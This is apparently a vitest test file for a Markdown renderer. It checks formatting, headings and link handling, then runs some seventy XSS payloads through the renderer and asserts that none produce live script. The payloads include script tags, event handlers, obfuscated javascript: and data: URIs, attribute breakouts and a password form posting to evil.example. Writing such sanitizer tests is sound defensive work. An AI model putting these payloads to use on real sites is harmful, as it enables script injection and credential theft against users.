import { expect, test } from 'vitest';
import { markdownRenderer } from './markdown.ts';

const render = markdownRenderer({ headingsFrom: 4 });
const html = (source: string) => render(source).trim();

test('paragraphs, emphasis, lists, quotes, code and tables come out as HTML', () => {
	expect(html('A *b* **c** ~~d~~ `e`\nf')).toBe(
		'<p>A <em>b</em> <strong>c</strong> <s>d</s> <code>e</code><br>\nf</p>'
	);
	expect(html('- a\n- b')).toBe('<ul>\n<li>a</li>\n<li>b</li>\n</ul>');
	expect(html('> a')).toBe('<blockquote>\n<p>a</p>\n</blockquote>');
	expect(html('|a|\n|-|\n|b|')).toContain('<td>b</td>');
});

test('headings stand below those of the page, and none is deeper than there are', () => {
	expect(html('# a\n\n## b\n\n### c\n\n###### d')).toBe('<h4>a</h4>\n<h5>b</h5>\n<h6>c</h6>\n<h6>d</h6>');
	expect(html('a\n=')).toBe('<h4>a</h4>');
});

test('a link opens in its place, gives nothing away and is no recommendation', () => {
	const link = '<a href="https://osce.org/a?b=1&amp;c=2" rel="nofollow noopener"';
	expect(html('[a](https://osce.org/a?b=1&c=2)')).toBe(`<p>${link}>a</a></p>`);
	expect(html('[a](https://osce.org/a?b=1&c=2 "Title")')).toBe(`<p>${link} title="Title">a</a></p>`);
	expect(html('[a]\n\n[a]: https://osce.org/a?b=1&c=2')).toBe(`<p>${link}>a</a></p>`);
});

test('addresses become links by themselves, words with a dot do not', () => {
	const rel = 'rel="nofollow noopener"';
	expect(html('See https://osce.org.')).toBe(
		`<p>See <a href="https://osce.org" ${rel}>https://osce.org</a>.</p>`
	);
	expect(html('<https://osce.org>')).toBe(`<p><a href="https://osce.org" ${rel}>https://osce.org</a></p>`);
	expect(html('anna@example.org')).toBe(
		`<p><a href="mailto:anna@example.org" ${rel}>anna@example.org</a></p>`
	);
	expect(html('romano.md and example.org')).toBe('<p>romano.md and example.org</p>');
});

test('an image becomes a link to it, in a link only its words', () => {
	expect(html('![chart](https://a.example/b.png)')).toBe(
		'<p><a href="https://a.example/b.png" rel="nofollow noopener">chart</a></p>'
	);
	expect(html('![](https://a.example/b.png)')).toContain('>image</a>');
	expect(html('[![chart](https://a.example/b.png)](https://c.example)')).toBe(
		'<p><a href="https://c.example" rel="nofollow noopener">chart</a></p>'
	);
});

test('a link that leads nowhere is its words', () => {
	expect(html('[a]()')).toBe('<p>a</p>');
	expect(html('[a](/settings)')).not.toContain('<a');
	expect(html('[a](//evil.example)')).not.toContain('<a');
});

test('the language of a block of code makes no class', () => {
	expect(html('```site "onclick=alert(1)\na\n```')).toBe('<pre><code>a\n</code></pre>');
});

/** Whatever somebody may send, and what a browser would run of it. */
const hostile = [
	'<script>alert(1)</script>',
	'<ScRiPt src=//evil.example></ScRiPt>',
	'<img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<a href="javascript:alert(1)">a</a>',
	'<style>*{display:none}</style>',
	'<form action=https://evil.example><input name=password></form>',
	'<!-- --><script>alert(1)</script>',
	'<![CDATA[<script>alert(1)</script>]]>',
	'<div\n\nonmouseover=alert(1)\n\n>',
	'# <script>alert(1)</script>',
	'> - 1. <img src=x onerror=alert(1)>',
	'|<b onclick=alert(1)>|\n|-|\n|<script>|',
	'`<script>`<script>',
	'```<script>alert(1)\n</code></pre><script>alert(1)</script>\n```',
	'    </code></pre><script>alert(1)</script>',
	'[a](javascript:alert(1))',
	'[a](JaVaScRiPt:alert(1))',
	'[a](  javascript:alert(1))',
	'[a](<javascript:alert(1)>)',
	'[a](<java\tscript:alert(1)>)',
	'[a](java&#10;script:alert(1))',
	'[a](&#106;avascript:alert(1))',
	'[a](&#x6A&#x61vascript:alert(1))',
	'[a](javascript&colon;alert(1))',
	'[a](\u0001javascript:alert(1))',
	'[a](\u00a0javascript:alert(1))',
	'[a](java\u200bscript:alert(1))',
	'[a](jаvascript:alert(1))',
	'[a](vbscript:msgbox(1))',
	'[a](file:///etc/passwd)',
	'[a](data:text/html,<script>alert(1)</script>)',
	'[a](data:text/html;base64,PHNjcmlwdD4=)',
	'[a](data:image/svg+xml,<svg/onload=alert(1)>)',
	'[a](blob:https://evil.example/1)',
	'[a](//evil.example)',
	'[a](\\\\evil.example)',
	'[a](https:evil.example)',
	'[a](https:///evil.example)',
	'[a](https://x.example" onmouseover="alert(1))',
	"[a](https://x.example' onmouseover='alert(1))",
	'[a](https://x.example/"onmouseover=alert(1))',
	'[a](https://x.example "t\\" onmouseover=alert(1) x=\\"")',
	"[a](https://x.example '\"><script>alert(1)</script>')",
	'[a]: javascript:alert(1)\n\n[a]',
	'[a]: https://x.example "\'><script>alert(1)</script>"\n\n[a]',
	'<javascript:alert(1)>',
	'<data:text/html,x>',
	'<https://x.example/"onmouseover=alert(1)>',
	'https://x.example/"onmouseover="alert(1)',
	"https://x.example/'onmouseover='alert(1)",
	'https://x.example/<script>alert(1)</script>',
	'![a](javascript:alert(1))',
	'![a](data:image/svg+xml;base64,PHN2Zz4=)',
	'![" onerror="alert(1)](https://x.example/b.png)',
	'![a](https://x.example/b.png" onerror="alert(1))',
	'![<script>alert(1)</script>](https://x.example)',
	'[![a](javascript:alert(1))](javascript:alert(1))',
	'[[a](https://x.example)](javascript:alert(1))',
	'mailto:javascript:alert(1)',
	'[a](mailto:?body=x)',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'&#60;script&#62;alert(1)&#60;/script&#62;',
	'＜script＞alert(1)＜/script＞',
	'\u202e<script>alert(1)</script>',
	'\\<script>alert(1)</script>',
	'<scr<script>ipt>alert(1)</script>',
	'<a\u0000href=javascript:alert(1)>',
	'__proto__ [constructor] [__proto__]\n\n[constructor]: javascript:alert(1)'
];

const tags =
	/<(\/?)(p|br|em|strong|s|code|pre|ul|ol|li|blockquote|h[456]|hr|table|thead|tbody|tr|th|td|a)((?: [a-z]+="[^"<>]*")*)>/g;

test.each(hostile)('%j runs nothing', (source) => {
	const out = html(source);
	const links = [...out.matchAll(tags)];
	// Every tag is one of ours, and what is left has none: it is text.
	expect(out.replace(tags, '')).not.toMatch(/[<>]/);
	for (const [, , tag, attributes = ''] of links) {
		const names = [...attributes.matchAll(/ ([a-z]+)="[^"]*"/g)].map(([, name]) => name);
		expect(tag === 'a' ? ['href', 'rel', 'title'] : ['start', 'style']).toEqual(
			expect.arrayContaining(names)
		);
		if (tag !== 'a' || attributes === '') continue;
		const href = / href="([^"]*)"/.exec(attributes)?.[1] ?? '';
		expect(['http:', 'https:', 'mailto:']).toContain(new URL(href.replaceAll('&amp;', '&')).protocol);
	}
});

test.each([
	['['.repeat(10_000)],
	['>'.repeat(10_000)],
	['*a '.repeat(3_300)],
	['`'.repeat(9_999) + 'a'],
	['![]('.repeat(2_500)],
	['<a '.repeat(3_300)],
	['- '.repeat(5_000)],
	['|'.repeat(10_000)],
	['https://a.example/('.repeat(500)]
])('%.12s… ten thousand characters long is rendered all the same', (source) => {
	expect(html(source).length).toBeGreaterThan(0);
});
